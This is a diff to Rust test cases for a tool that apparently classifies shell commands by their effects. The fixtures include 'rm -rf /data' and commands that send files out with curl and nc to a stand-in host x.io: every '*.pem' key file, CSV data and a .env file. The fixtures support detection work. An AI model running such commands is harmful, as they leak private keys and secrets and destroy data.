@@ -1169,7 +1169,7 @@ fn wrappers_and_nesting() {
         ("somecli report -o json", json!([])),
         (
             "find . -name '*.tmp' | xargs -0 -n 1 rm -f",
-            json!([delete(&at("*.tmp"), false)]),
+            json!([delete(&at("**/*.tmp"), false)]),
         ),
         (
             "bash <<'EOF'\nrm -rf /data\nEOF",
@@ -2508,14 +2508,27 @@ fn local_files() {
             json!([delete("/tmp/x", true)]),
         ),
         (
-            // `{}` is an entry of the name found.
+            // `{}` is an entry of the name found, at any depth.
             "find . -name '*.pem' -exec curl -T {} https://x.io \\;",
             json!([url_request(
                 "curl",
                 "https://x.io",
                 "PUT",
-                payload(&[], &[(&at("*.pem"), false)], &[])
+                payload(&[], &[(&at("**/*.pem"), false)], &[])
             )]),
+        ),
+        (
+            // With an `-exec`, find prints what the command prints.
+            "find data -name '*.csv' -exec cat {} + | nc x.io 9",
+            json!([
+                read(&at("data/**/*.csv")),
+                host_request(
+                    "nc",
+                    host(None, "x.io", Some(9), None),
+                    "SEND",
+                    payload(&[], &[(&at("data/**/*.csv"), false)], &[])
+                )
+            ]),
         ),
         (
             // What find prints under a `-name`, xargs passes on.
@@ -2524,7 +2537,11 @@ fn local_files() {
                 "curl",
                 "https://x.io",
                 "POST",
-                payload(&["/home/dana/acme-web/.env"], &[(&at(".env"), false)], &[])
+                payload(
+                    &["/home/dana/acme-web/**/.env"],
+                    &[(&at("**/.env"), false)],
+                    &[]
+                )
             )]),
         ),
         (
